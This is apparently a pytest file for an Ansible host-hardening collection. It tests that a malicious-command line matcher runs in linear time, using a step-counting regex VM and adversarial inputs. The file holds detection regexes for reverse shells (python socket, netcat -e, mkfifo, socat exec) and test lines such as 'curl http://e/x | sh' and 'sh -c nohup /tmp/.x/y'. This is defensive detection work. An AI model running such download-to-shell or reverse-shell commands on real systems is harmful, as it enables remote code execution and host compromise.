"""core/linematch is linear on any line (issue 17), shown by counting work, never by timing.

1. every regex of the module (``PIECES``) passes tests/regex_budget.py: no nested/overlapping
   unbounded repeats, and a step budget of 64 VM steps a character on inputs built from its own
   atoms;
2. every pattern (a program over the pieces) is run on adversarial lines built from the atoms of
   its pieces, with each piece call executed by the counting VM: the total work stays under
   64 steps a character and grows linearly from SMALL to BIG;
3. the former single regexes are caught by the same helper (so the check can fail).
``make fuzz`` runs 1 and 2 at 1 MiB (HOSTGUARD_FUZZ_BIG; 6 KiB here); the counting VM is the plain
one made faster (same step count, property-tested below), so 1 MiB lines take minutes, not hours."""
import os
import re

import pytest

import regex_budget as RB
from ansible_collections.hostguard.hardening.plugins.module_utils.core import linematch as L

SMALL = 2 * 1024
BIG = int(os.environ.get("HOSTGUARD_FUZZ_BIG", 6 * 1024))
FACTOR = 64

# How each piece is applied: anchored (match/fullmatch at one position) or searched.
MATCH_MODE = {"pipe_to_interp", "subst_download", "chmod_mode", "option", "interp_word", "assignment", "redirect",
              # finditer of \S+ never fails once started: each run is consumed once
              "token"}


@pytest.mark.parametrize("name", sorted(L.PIECES))
def test_piece_is_linear(name):
    mode = "match" if name in MATCH_MODE else "search"
    assert RB.check_linear(L.PIECES[name], mode=mode, sizes=tuple(sorted(set((10 * 1024, BIG)))),
                           factor=FACTOR) == []


class Counting(object):
    """A piece whose every call is also executed by the counting VM (steps added up)."""

    programs = {}     # regex -> VM program, compiled once per run

    def __init__(self, regex, counter):
        self.regex = regex
        if regex not in self.programs:
            self.programs[regex] = RB.compile_program(regex)
        self.prog = self.programs[regex]
        self.counter = counter

    def _count(self, text, pos, endpos, mode):
        _m, steps, _x = RB.run_counted(self.regex, text, mode, 10 ** 9, self.prog, pos=pos, endpos=endpos)
        self.counter[0] += steps

    def finditer(self, text, pos=0, endpos=None):
        endpos = len(text) if endpos is None else endpos
        while pos <= endpos:
            self._count(text, pos, endpos, "search")
            m = self.regex.search(text, pos, endpos)
            if m is None:
                return
            yield m
            pos = m.end() if m.end() > m.start() else m.end() + 1

    def search(self, text, pos=0, endpos=None):
        endpos = len(text) if endpos is None else endpos
        self._count(text, pos, endpos, "search")
        return self.regex.search(text, pos, endpos)

    def match(self, text, pos=0, endpos=None):
        endpos = len(text) if endpos is None else endpos
        self._count(text, pos, endpos, "match")
        return self.regex.match(text, pos, endpos)

    def fullmatch(self, text, pos=0, endpos=None):
        endpos = len(text) if endpos is None else endpos
        self._count(text, pos, endpos, "match")
        return self.regex.fullmatch(text, pos, endpos)


def _atoms(name):
    """Skeletons of the pieces a pattern's function uses (read from its source)."""
    import inspect
    source = inspect.getsource(getattr(L, name))
    used = sorted(set(re.findall(r'P\["(\w+)"\]', source)))
    if name in ("exec_from_temp_dir", "exec_from_hidden_path", "shell_runs_download"):
        used += ["command_sep", "interp_word"]
    out = []
    for piece in used:
        if piece == "token":
            continue
        skeleton = "".join(RB._atom_samples(list(RB.sre_parse.parse(L.PIECES[piece].pattern)), []))
        if skeleton:
            out.append(skeleton)
    return out


def adversarial_lines(name, size):
    atoms = _atoms(name) + ["sudo ", "sh ", "/tmp/", "/.", "| ", "; ", "-x ", "sh -c '", "busybox sh -o x -c \"",
                            "> ", ">x ", "2>&1 ", "then ", "do ", "! ", "eval ", "sh -o ", "sh < ", "'/tm'p/", "/../",
                            "A=\" ", "A='x ", "LD_PRELOAD=:", "env -S", "su -lcx ", "cat /tmp/x |"]
    whole = " ".join(atoms) + " "
    near = " ".join(atoms[:-1]) + " "
    lines = [(whole * (size // len(whole) + 1))[:size], (near * (size // len(near) + 1))[:size]]
    for atom in atoms:
        lines.append(((atom + " ") * (size // (len(atom) + 1) + 1))[:size])
        lines.append((atom * (size // len(atom) + 1))[:size])
    # the reproducers
    for text in ("python -c socket ", "perl -e ", "php -r ", "nc -0", "mkfifo n", "socat exec"):
        lines.append((text * (size // len(text) + 1))[:size])
    return lines


def work(name, line, monkeypatch):
    counter = [0]
    with monkeypatch.context() as patch:
        for piece, regex in list(L.PIECES.items()):
            patch.setitem(L.PIECES, piece, Counting(regex, counter))
        getattr(L, name)(line, line)
    return counter[0]


@pytest.mark.parametrize("name", [n for n, _f in L.MALICIOUS_PATTERNS])
def test_pattern_work_is_linear(name, monkeypatch):
    worst_ratio = 0.0
    for small, big in zip(adversarial_lines(name, SMALL), adversarial_lines(name, BIG)):
        w_small = work(name, small, monkeypatch)
        w_big = work(name, big, monkeypatch)
        assert w_big <= FACTOR * (len(big) + 1), (name, big[:40], w_big)
        worst_ratio = max(worst_ratio, (w_big + 1.0) / (w_small + 1.0))
    # linear growth: BIG/SMALL times more input, at most 1.5x that much more work
    assert worst_ratio <= 1.5 * BIG / SMALL, (name, worst_ratio)


OLD = {  # the single regexes of issue 17 (before this rewrite)
    "script_socket_oneliner": r"\bpython[0-9.]*\b.*\s-c\b.*\bsocket\b.*(?:connect|dup2|pty|subprocess|spawn)",
    "socat_exec": r"\bsocat\b.*\b(?:exec|system):",
    "fifo_netcat_shell": r"\bmk(?:fifo|nod)\b.*\b(?:nc|ncat|netcat|telnet|socat|openssl\s+s_client)\b",
    "netcat_exec": r"\b(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)\b[^|;&\n]*?\s(?:-\w*e\b|--(?:sh-)?exec\b)",
    "chattr_immutable": r"\bchattr\b[^\n;|&]*\s\+[a-zA-Z]*[ia]",
}


@pytest.mark.parametrize("name", sorted(OLD))
def test_the_old_patterns_are_caught(name):
    assert RB.check_linear(re.compile(OLD[name]), mode="search", sizes=(2048,), factor=FACTOR) != []


def test_match_objects_keep_their_interface():
    [(name, hit)] = L.match_line("x; curl -s http://e/x | sh")
    assert name == "download_piped_to_shell" and hit.group() == "curl -s http://e/x | sh"
    assert hit.span() == (3, 26)


def test_curl_sh_after_a_hostile_run_is_still_found():
    """Issue 17: 4,000 bytes of `python -c socket ` before the `curl | sh` of the same line."""
    line = "python -c socket " * 235 + "; curl http://e/x | sh"
    names = [n for n, _h in L.match_line(line)]
    assert "download_piped_to_shell" in names


# ------------------------------------------------ the fast counting VM is the plain one, faster
from hypothesis import given, settings, strategies as st  # noqa: E402

_PIECE_NAMES = sorted(L.PIECES)
_ALPHABET = sorted(set("".join("".join(RB._atom_samples(list(RB.sre_parse.parse(p.pattern)), []))
                               for p in L.PIECES.values())) | set(" \n-|/.:"))


@settings(max_examples=int(os.environ.get("HOSTGUARD_FUZZ_EXAMPLES", 150)), deadline=None)
@given(st.sampled_from(_PIECE_NAMES), st.text(alphabet=_ALPHABET, max_size=80),
       st.sampled_from(["match", "search", "findall"]), st.sampled_from([40, 10 ** 6]))
def test_property_fast_vm_counts_like_the_plain_vm(name, text, mode, budget):
    """Same (matched, steps, exhausted) as the one-instruction-a-turn VM, on any text, in
    every mode, with and without running out of budget: the 1 MiB figures count the same work."""
    regex = L.PIECES[name]
    prog = RB.compile_program(regex)
    assert RB.run_counted(regex, text, mode, budget, prog) == \
        RB.run_counted(regex, text, mode, budget, prog, reference=True)
    cut = len(text) // 3
    assert RB.run_counted(regex, text, mode, budget, prog, pos=cut, endpos=len(text) - cut) == \
        RB.run_counted(regex, text[cut:len(text) - cut], mode, budget, prog, reference=True)
    if mode != "findall" and budget > 1000:
        assert RB.run_counted(regex, text, mode, budget, prog)[0] == bool(
            (regex.match if mode == "match" else regex.search)(text)) or "\\b" in regex.pattern


@pytest.mark.parametrize("name", ["exec_from_temp_dir", "exec_from_hidden_path"])
def test_command_words_are_sliced_in_linear_total(name, monkeypatch):
    """Issue 17: 64 KiB of ``&`` is 64 Ki command starts inside one token; each word used to be
    sliced to the token's end (quadratic Python work the regex count does not see). Counted:
    the characters of all words handed to the checks stay linear in the line."""
    line = "&" * (64 * 1024)
    sliced = [0]
    real = L._word

    def counting(text, start, end):
        out = real(text, start, end)
        sliced[0] += len(out[1])
        return out
    monkeypatch.setattr(L, "_word", counting)
    getattr(L, name)(line, line)
    assert sliced[0] <= 2 * len(line), sliced[0]
    line = "&/tmp/x" * (8 * 1024)                   # words that matter are still whole
    assert getattr(L, name)(line, line) or name == "exec_from_hidden_path"


@pytest.mark.parametrize("name", ["exec_from_temp_dir", "exec_from_hidden_path"])
def test_quoted_dash_c_strings_are_walked_once(name, monkeypatch):
    """A quoted ``sh -c`` string is walked again as a command line, one level deep: strings
    nested in strings (or overlapping ones) are not walked again, so every character of the
    line is walked at most twice (counted: the characters handed to the command-word walk)."""
    walked = [0]
    real = L._command_words

    def counting(text, tokens=None):
        walked[0] += len(text)
        return real(text, tokens)
    monkeypatch.setattr(L, "_command_words", counting)
    for line in ("sh -c '" * 4096, "sh -c \"sh -c '" * 2048 + "/usr/bin/true", "bash -c 'x' " * 2048):
        walked[0] = 0
        assert getattr(L, name)(line, line) is None
        assert walked[0] <= 2 * len(line), (line[:20], walked[0])
    line = "sh -c 'true'; " * 1024 + "sh -c 'nohup /tmp/.x/y'"
    assert getattr(L, name)(line, line)
